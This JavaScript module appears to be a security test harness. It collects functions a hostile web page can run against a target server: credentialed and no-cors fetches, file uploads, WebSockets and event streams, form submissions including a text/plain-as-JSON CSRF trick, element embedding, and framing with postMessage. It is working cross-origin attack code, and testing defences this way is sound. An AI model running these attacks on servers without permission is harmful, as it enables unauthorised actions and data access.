// What a hostile page tries. These functions run in the browser, in the page of an attacker:
// each takes one argument and uses nothing from outside of itself.

/**
 * Tries to read paths and to send requests that change or use the server, in every way
 * that scripts have. Returns the attempts whose answer the page could read.
 */
export async function attackByFetch({ target, reads, writes }) {
  const gains = [];
  const attempt = async (what, address, options) => {
    try {
      const response = await fetch(address, { credentials: 'include', ...options });
      const text = response.type === 'opaque' ? '' : await response.text();
      if (response.ok) gains.push({ what, text });
    } catch {
      // the browser or the server refused
    }
  };
  const both = (what, address, options) => [attempt(what, address, options), attempt(`no-cors ${what}`, address, { ...options, mode: 'no-cors' })];
  const upload = new FormData();
  upload.append('purpose', 'batch');
  upload.append('file', new Blob(['{}\n']), 'evil.jsonl');
  const types = ['application/json', 'text/plain', 'application/x-www-form-urlencoded'];
  await Promise.all([
    ...reads.flatMap((path) => both(`GET ${path}`, target + path, {})),
    ...writes.flatMap(({ method, path, body }) => types.flatMap((type) => both(`${method} ${path} as ${type}`, target + path, { method, body, headers: { 'content-type': type } }))),
    ...both('upload', `${target}/v1/files`, { method: 'POST', body: upload }),
  ]);
  for (const { path, body } of writes.filter((w) => w.method === 'POST')) navigator.sendBeacon(target + path, body);
  return gains;
}

/** Tries WebSockets and event streams. Returns those that opened. */
export async function attackByStream({ target, sockets, streams }) {
  const tries = [
    ...sockets.map(({ path, frame }) => [`WebSocket ${path}`, new WebSocket(target.replace('http', 'ws') + path), frame]),
    ...streams.map((path) => [`EventSource ${path}`, new EventSource(target + path, { withCredentials: true })]),
  ];
  const opened = await Promise.all(
    tries.map(([what, source, frame]) => new Promise((resolve) => {
      source.onopen = () => (frame ? source.send(frame) : resolve(what));
      source.onmessage = () => resolve(what);
      source.onerror = () => resolve('');
    })),
  );
  tries.forEach(([, source]) => source.close());
  return opened.filter(Boolean);
}

/** Submits forms of every encoding into frames, and waits until each frame has what came back. */
export async function attackByForm({ target, writes }) {
  const submit = ({ method, path, body }, enctype, n) => {
    const frame = document.createElement('iframe');
    frame.name = `frame${n}`;
    document.body.append(frame);
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { action: target + path, method, enctype, target: frame.name });
    const field = form.appendChild(document.createElement('input'));
    [field.name, field.value] = [`${body.slice(0, -1)}${body === '{}' ? '' : ','}"ignored":"`, '"}']; // as text/plain this is JSON: name=value
    const loaded = new Promise((resolve) => (frame.onload = resolve));
    form.submit();
    return loaded.then(() => frame.remove());
  };
  const encodings = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'];
  const posts = writes.filter((w) => w.method === 'POST').flatMap((w) => encodings.map((e) => [w, e]));
  await Promise.all(posts.map(([write, enctype], n) => submit(write, enctype, n)));
}

/** Embeds paths as images, scripts and styles, and waits for them. Returns those that were accepted. */
export async function attackByElement({ target, reads }) {
  const embed = (path, tag, source) => {
    const element = document.createElement(tag);
    if (tag === 'link') element.rel = 'stylesheet';
    const done = new Promise((resolve) => {
      element.onload = () => resolve(`${tag} ${path}`);
      element.onerror = () => resolve('');
    });
    element[source] = target + path;
    document.body.append(element);
    return done;
  };
  const tags = [['img', 'src'], ['script', 'src'], ['link', 'href']];
  const all = reads.flatMap((path) => tags.map(([tag, source]) => embed(path, tag, source)));
  return (await Promise.all(all)).filter(Boolean);
}

/** Embeds the pages in frames and opens them in windows. Returns those whose content or window it reached. */
export async function attackByWindow({ target, pages }) {
  const reached = [];
  const readable = (what, w) => {
    try {
      if (w.document.body.innerText.length > 0) reached.push(what);
    } catch {
      // another origin
    }
  };
  for (const path of pages) {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const loaded = new Promise((resolve) => (frame.onload = resolve));
    frame.src = target + path;
    await loaded;
    readable(`frame ${path}`, frame.contentWindow);
    frame.contentWindow.postMessage('give me your key', '*');
    frame.remove();
  }
  return reached;
}
